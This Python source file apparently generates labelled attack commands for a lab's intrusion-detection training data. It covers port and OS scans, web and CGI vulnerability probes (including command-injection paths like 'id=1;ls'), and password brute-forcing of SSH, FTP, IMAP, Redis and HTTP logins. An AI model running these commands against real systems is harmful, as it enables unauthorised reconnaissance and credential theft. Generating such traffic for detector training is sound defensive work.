"""The scans and the guessing of the profile `unseen`: for every class programs that training never uses for it."""

# ruff: noqa: E501 - a command stands on one line, as one types it

from __future__ import annotations

from training.lab.attacks import Field, Run, mode
from training.lab.guessing import LABEL
from training.lab.unseen_floods import CRAFT

# Reconnaissance: ports


@mode("Port Scan", "unseen")
def port_pnscan_more(f: Field) -> Run:
    v = f.at(f.server)
    return "pnscan", f"pnscan -w{f.rng.choice([2, 20])} -t 800 {v} {f.rng.choice(['1:700', '1000:1900', '7000:9200'])}", [v], 12


@mode("Port Scan", "unseen")
def port_zmap_more(f: Field) -> Run:
    command = f"zmap -q -p {f.rng.choice([22, 443, 8080, 5900])} -i eth0 -G {f.mac('iot')} -S {f.at('att')} -r {f.rng.choice([30, 100])} -P {f.rng.choice([1, 3])} -c 1 -b /dev/null -o /dev/null {f.range()}"
    return "zmap", command, [f.range()], 16


@mode("Port Scan", "unseen")
def port_mausezahn(f: Field) -> Run:
    host, low = f.server, f.rng.randint(1, 3000)
    return (
        "mausezahn SYN range",
        f"mausezahn eth0 -q -A {f.at('att')} -B {f.at(host)} -b {f.mac(host)} -t tcp 'sp={f.rng.randint(1024, 60000)},dp={low}-{low + f.rng.randint(300, 900)},flags={f.rng.choice(['syn', 'fin'])}' -c 1 -d {f.rng.choice([3, 10])}m",
        [f.at(host)],
        12,
    )


@mode("Port Scan", "unseen")
def port_netwox(f: Field) -> Run:
    v, low = f.at(f.server), f.rng.randint(1, 3000)
    return "netwox 67", f"timeout 10 netwox 67 -i {v} -p {low}-{low + f.rng.randint(200, 700)}", [v], 12


@mode("Port Scan", "unseen")
def port_scapy(f: Field) -> Run:
    host, low = f.server, f.rng.randint(1, 900)
    return (
        "scapy scan",
        f"{CRAFT} scan {f.at(host)} --mac {f.mac(host)} --ports {low}-{low + f.rng.randint(200, 450)} --flags {f.rng.choice(['S', 'F', 'FPU'])} --rate {f.rng.choice([60, 150])}",
        [f.at(host)],
        22,
    )


@mode("Port Scan", "unseen")
def port_scanssh(f: Field) -> Run:
    base = f.at("web").rsplit(".", 1)[0]
    return "scanssh", f"timeout 12 scanssh -n {f.rng.choice(['22,2222', '80,8080,443'])} {base}.0/25", [f.range()], 14


# Reconnaissance: operating system


@mode("OS Scan", "unseen")
def os_nping_more(f: Field) -> Run:
    host = f.server
    opened, closed = f.ports(host)[0], f.rng.randint(30000, 60000)
    flags = ["syn,ece,cwr", "none", "syn,fin,urg,psh", "ack", "fin,psh,urg", "rst"]
    runs = [
        f"nping -q -c 2 --rate {f.rng.choice([5, 12])} --tcp -p {opened},{closed} --flags {flag} --win {f.rng.choice([1, 128, 256, 1024])} {f.at(host)}"
        for flag in flags
    ]
    runs += [
        f"nping -q -c 2 --rate 6 --icmp --icmp-type {kind} --data-length {f.rng.choice([0, 120])} {f.at(host)}"
        for kind in ("timestamp", "mask", "echo")
    ]
    return "nping stack probes", "; ".join(runs), [f.at(host)], 20


@mode("OS Scan", "unseen")
def os_scapy(f: Field) -> Run:
    host = f.server
    return (
        "scapy stack probes",
        f"{CRAFT} stack {f.at(host)} --mac {f.mac(host)} --ports {f.ports(host)[0]} --rounds {f.rng.choice([2, 4])} --rate {f.rng.choice([5, 12])}",
        [f.at(host)],
        22,
    )


@mode("OS Scan", "unseen")
def os_scapy_hosts(f: Field) -> Run:
    hosts = f.rng.sample(f.devices(), 4)
    opened = f.capture.host("iot").services[0].options["ports"][0]
    return (
        "scapy stack probes, devices",
        f"for h in {' '.join(hosts)}; do timeout 6 {CRAFT} stack $h --mac {f.mac('iot')} --ports {opened} --rounds 1 --rate 20; done",
        hosts,
        25,
    )


@mode("OS Scan", "unseen")
def os_packit(f: Field) -> Run:
    host = f.server
    v, opened, closed = f.at(host), f.ports(host)[0], f.rng.randint(30000, 60000)
    probes = [
        f"-t TCP -F {flags} -D {number} -W {f.rng.choice([64, 1024, 4096])}"
        for number in (opened, closed)
        for flags in ("S", "FPU", "A", "SFPU")
    ]
    probes += ["-t ICMP -K 8 -C 9", "-t ICMP -K 13", "-t ICMP -K 17", f"-t UDP -D {closed} -p CCCCCCCCCCCC"]
    runs = "; ".join(f"timeout 3 packit {probe} -d {v} -s {f.at('att')} -c {f.rng.choice([1, 2])} -w 0" for probe in probes)
    return "packit stack probes", f"for i in 1 2 3; do {runs}; sleep 0.{f.rng.choice([2, 8])}; done", [v], 25


# Reconnaissance: vulnerabilities


@mode("Vulnerability Scan", "unseen")
def vuln_gobuster_more(f: Field) -> Run:
    return (
        "gobuster dir",
        f"gobuster dir -q -z -t {f.rng.choice([2, 10])} --delay {f.rng.choice([5, 40])}ms -x {f.rng.choice(['php', 'bak,txt'])} -u {f.web()}/ -w {f.paths(f.rng.randint(150, 400))}",
        [f.at("web")],
        14,
    )


@mode("Vulnerability Scan", "unseen")
def vuln_ffuf(f: Field) -> Run:
    return (
        "ffuf",
        f"ffuf -s -t {f.rng.choice([1, 8])} -p {f.rng.choice(['0.02', '0.05-0.2'])} -mc 200,301 -u {f.web()}/{f.rng.choice(['FUZZ', 'app/FUZZ'])} -w {f.paths(f.rng.randint(300, 900))}",
        [f.at("web")],
        14,
    )


@mode("Vulnerability Scan", "unseen")
def vuln_doona(f: Field) -> Run:
    host, kind = f.rng.choice([("web", "HTTP"), ("files", "FTP")])
    number = f.web_port if kind == "HTTP" else f.ports("files")[1]
    more = "" if kind == "HTTP" else f"-u {f.capture.user} -v wrong"
    return "doona", f"timeout 14 doona -m {kind} -t {f.at(host)} -p {number} {more} -M 300", [f.at(host)], 16


@mode("Vulnerability Scan", "unseen")
def vuln_openssl(f: Field) -> Run:
    """Which protocols and ciphers the server takes: one handshake each, as TLS scanners ask."""
    ask = f"timeout 2 openssl s_client -connect {f.at('web')}:443"
    ciphers = (
        f"for c in $(openssl ciphers ALL:eNULL | tr : '\\n' | shuf -n {f.rng.randint(40, 70)}); do {ask} -tls1_2 -cipher $c; done"
    )
    return (
        "openssl cipher probe",
        f"(for v in -tls1 -tls1_1 -tls1_2 -tls1_3; do {ask} $v; done; {ciphers}) </dev/null >/dev/null 2>&1",
        [f.at("web")],
        18,
    )


@mode("Vulnerability Scan", "unseen")
def vuln_perl(f: Field) -> Run:
    """Old CGI holes one after the other over kept connections, as the scanners of the nineties did."""
    paths = f.list(
        "cgi",
        [
            f"/cgi-bin/{name}"
            for name in (
                "phf",
                "test-cgi",
                "nph-test-cgi",
                "finger",
                "formmail.pl",
                "count.cgi",
                "awstats.pl",
                "printenv",
                "htsearch",
                "php.cgi?-s",
            )
        ]
        + f"/scripts/root.exe?/c+dir /msadc/msadcs.dll /_vti_bin/shtml.exe /iisadmpwd/aexp.htr /manager/html /jmx-console/ /solr/admin/ /struts2/{f.rng.randrange(99)}.action /app/item?id=1;ls".split(),
    )
    code = f"use IO::Socket::INET; open(P,shift); for my $p (<P>) {{ chomp $p; for my $m (qw(HEAD GET OPTIONS)) {{ my $c=IO::Socket::INET->new(q({f.at('web')}:{f.web_port})) or next; print $c qq($m $p HTTP/1.0\\r\\n\\r\\n); my @a=<$c>; select(undef,undef,undef,0.{f.rng.choice(['05', '15'])}); }} }}"
    return "perl cgi scanner", f"perl -e '{code}' {paths}", [f.at("web")], 16


# Brute force


@mode(LABEL, "unseen")
def dict_patator_ssh(f: Field) -> Run:
    v, number = f.login("ssh")
    return (
        "patator ssh_login",
        f"patator ssh_login host={v} port={number} user=FILE0 password=FILE1 0={f.users()} 1={f.passwords(60)} -t {f.rng.choice([4, 8])}",
        [v],
        24,
    )


@mode(LABEL, "unseen", needs=("forms",))
def dict_patator_form(f: Field) -> Run:
    v, number = f.login("forms")
    return (
        "patator http_fuzz",
        f"patator http_fuzz url=http://{v}:{number}/login method=POST resolve=x.test:{v} body='user=FILE0&password=FILE1' 0={f.users()} 1={f.passwords(80)} -t {f.rng.choice([2, 8])} --rate-limit=0.{f.rng.choice([1, 5])}",
        [v],
        22,
    )


@mode(LABEL, "unseen")
def dict_nmap_ftp(f: Field) -> Run:
    v, number = f.login("ftp")
    return (
        "nmap ftp-brute",
        f"nmap -n -Pn -p {number} --script +ftp-brute --script-args userdb={f.users()},passdb={f.passwords(60)} {v}",
        [v],
        16,
    )


@mode(LABEL, "unseen", needs=("imap",))
def dict_nmap_imap(f: Field) -> Run:
    v, number = f.login("imap")
    return (
        "nmap imap-brute",
        f"nmap -n -Pn -p {number} --script +imap-brute --script-args userdb={f.users()},passdb={f.passwords(60)},brute.threads={f.rng.choice([1, 6])} {v}",
        [v],
        16,
    )


@mode(LABEL, "unseen", needs=("dropbear",))
def dict_plink(f: Field) -> Run:
    v, number = f.login("dropbear")
    return (
        "plink loop",
        f"for p in $(cat {f.passwords(60)}); do echo y | timeout 5 plink -ssh -P {number} -pw $p {f.capture.user}@{v} true; timeout 5 sshpass -p $p dbclient -y -y -p {number} root@{v} true; sleep {f.rng.choice([0, 1])}; done",
        [v],
        18,
    )


@mode(LABEL, "unseen")
def dict_onesixtyone(f: Field) -> Run:
    v = f.at("infra")
    return "onesixtyone", f"onesixtyone -c {f.passwords(400)} -w {f.rng.choice([10, 40])} {v}", [v], 14


@mode(LABEL, "unseen")
def dict_lftp(f: Field) -> Run:
    v, number = f.login("ftp")
    return (
        "lftp loop",
        f"for p in $(cat {f.passwords(80)}); do timeout 6 lftp -e 'set net:max-retries 1; set ftp:ssl-allow no; ls; bye' -u {f.capture.user},$p -p {number} {v}; sleep 0.{f.rng.choice([1, 5])}; done",
        [v],
        18,
    )


@mode(LABEL, "unseen", needs=("redis",))
def dict_redis_cli(f: Field) -> Run:
    v, number = f.login("redis")
    return (
        "redis-cli loop",
        f"for p in $(cat {f.passwords(300)}); do redis-cli -h {v} -p {number} -a $p --no-auth-warning ping; sleep 0.0{f.rng.choice([1, 8])}; done",
        [v],
        14,
    )


@mode(LABEL, "unseen")
def dict_ffuf(f: Field) -> Run:
    return (
        "ffuf basic",
        f"for p in $(cat {f.passwords(150)}); do printf '{f.capture.user}:%s' $p | base64; done > {{work}}/coded; ffuf -s -t {f.rng.choice([1, 6])} -p {f.rng.choice(['0.02', '0.1-0.3'])} -w {{work}}/coded -H 'Authorization: Basic FUZZ' -u {f.web()}/admin/",
        [f.at("web")],
        14,
    )
